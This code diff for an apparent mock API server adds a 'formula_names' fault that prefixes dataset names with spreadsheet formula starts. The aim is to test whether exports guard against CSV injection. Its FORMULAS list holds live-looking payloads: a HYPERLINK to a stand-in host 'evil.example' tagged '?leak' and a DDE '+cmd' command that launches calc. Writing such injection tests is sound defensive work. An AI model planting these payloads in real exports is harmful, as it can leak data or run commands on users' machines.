@@ -83,6 +83,12 @@ export const FaultsSchema = z
     redirect: z.enum(['none', 'trailing-slash', 'other-origin']),
     /** API error answers as an HTML page (`text/html`), as a gateway in front would send them. */
     html_errors: z.boolean(),
+    /**
+     * Names (activity, product, unit, method, category, indicator, search names, sectors) start
+     * like spreadsheet formulas (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-1+1`, a tab), each
+     * name always the same way: what no export may hand a spreadsheet to evaluate.
+     */
+    formula_names: z.boolean(),
   })
   .strict();
 export type Faults = z.infer<typeof FaultsSchema>;
@@ -110,6 +116,7 @@ export function defaultFaults(tokenTtlSeconds: number): Faults {
     token_answer: 'keycloak',
     redirect: 'none',
     html_errors: false,
+    formula_names: false,
   };
 }
 
@@ -133,6 +140,54 @@ export function nullKeys(value: unknown, field: string): unknown {
     Object.entries(value).map(([key, child]) => [
       key,
       key === field ? null : nullKeys(child, field),
+    ]),
+  );
+}
+
+/** The keys whose text `formula_names` turns into formulas, and lists of such text. */
+const NAME_KEYS = new Set([
+  'activity',
+  'product',
+  'reference product',
+  'name',
+  'unit',
+  'method',
+  'category',
+  'indicator',
+]);
+const NAME_LISTS = new Set(['sectors']);
+
+/**
+ * What a hostile or careless source could name a dataset: each name gets one of the formula
+ * starts OWASP lists, chosen by the name itself so that a name reads the same in every answer
+ * and release (matching by names keeps working).
+ */
+const FORMULAS: readonly ((name: string) => string)[] = [
+  (name) => `=HYPERLINK("http://evil.example/?leak","${name}")`,
+  (name) => `+cmd|' /C calc'!A0 ${name}`,
+  (name) => `@SUM(1) ${name}`,
+  (name) => `-1+1 ${name}`,
+  (name) => `\t${name}`,
+];
+function formulaOf(name: string): string {
+  let sum = 0;
+  for (let i = 0; i < name.length; i++) sum += name.charCodeAt(i);
+  const formula = FORMULAS[sum % FORMULAS.length];
+  return formula ? formula(name) : name;
+}
+
+/** `value` with every name (NAME_KEYS, NAME_LISTS) starting like a spreadsheet formula. */
+export function formulaNames(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(formulaNames);
+  if (typeof value !== 'object' || value === null) return value;
+  return Object.fromEntries(
+    Object.entries(value).map(([key, child]) => [
+      key,
+      NAME_KEYS.has(key) && typeof child === 'string'
+        ? formulaOf(child)
+        : NAME_LISTS.has(key) && Array.isArray(child)
+          ? child.map((item: unknown) => (typeof item === 'string' ? formulaOf(item) : item))
+          : formulaNames(child),
     ]),
   );
 }
